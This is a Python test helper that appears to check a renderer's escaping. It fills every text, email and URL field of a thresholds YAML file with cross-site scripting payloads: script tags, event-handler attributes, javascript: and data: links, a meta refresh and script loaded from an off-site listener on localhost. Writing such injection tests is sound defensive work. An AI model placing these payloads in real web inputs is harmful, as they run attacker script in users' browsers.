"""A shipped thresholds file with every text field poisoned: script, event handlers, bad links and a
meta refresh. The fields are found by walking the data beside the schema, not listed by hand, so a
field added to the format is poisoned too.

Each payload, if it ran, would mark the page (``<html data-injected=...>``) or reach the off-site
listener (another port on 127.0.0.1): the tests look for both.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import yaml_data
from schema_walk import is_free_text, put, walk

MARK = "document.documentElement.dataset.injected"


def payload(offsite: str) -> str:
    return " ".join(
        [
            f"<script>{MARK}='script'</script>",
            f'<script src="{offsite}/script.js"></script>',
            f"<img src=x onerror=\"{MARK}='onerror'\">",
            f'"><svg onload="{MARK}=\'svg\'">',
            f"' onmouseover='{MARK}=\"attribute\"' x='",
            f"[click](javascript:{MARK}='markdown-link')",
            f"<a href=\"javascript:{MARK}='a-link'\">a link</a>",
            "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            f'<meta http-equiv="refresh" content="0;url={offsite}/refresh">',
            f"![tracker]({offsite}/image.png)",
            f"{{: onclick=\"{MARK}='attr-list'\" }}",
            "&lt;script&gt;escaped&lt;/script&gt;",
            "</title></textarea></script><!--",
        ]
    )


def bad_email(offsite: str) -> str:
    return f'x"><script>{MARK}=\'email\'</script><img src="{offsite}/email.png">@example.org'


def bad_urls(offsite: str) -> list[str]:
    return [f"javascript:{MARK}='url'", f'https://example.org/"><script src="{offsite}/url.js"></script>']


def poisoned(path: Path, offsite: str, part: int = 0, parts: int = 1) -> tuple[str, list[list[str | int]]]:
    """The file's text with every text field, email and web address poisoned, and the poisoned paths.

    With parts > 1, only every parts-th field from the part-th: a file with every field poisoned can pass
    the 1 MB a thresholds file may be, and `validate` refuses it for that alone, naming no field."""
    data = yaml_data.read(path)
    poisoned_data: Any = copy.deepcopy(data)
    paths = []
    urls = bad_urls(offsite)
    seen = -1
    for field_path, value, schema in walk(data):
        if not isinstance(value, str) or not field_path:
            continue
        seen += 1
        if seen % parts != part:
            continue
        name = field_path[-1]
        if is_free_text(schema):
            put(poisoned_data, field_path, f"{value} {payload(offsite)}")
        elif name == "email":
            put(poisoned_data, field_path, bad_email(offsite))
        elif name == "url":
            put(poisoned_data, field_path, urls[len(paths) % len(urls)])
        else:
            continue
        paths.append(field_path)
    return yaml_data.dump(poisoned_data, sort_keys=False, allow_unicode=True, width=4096), paths
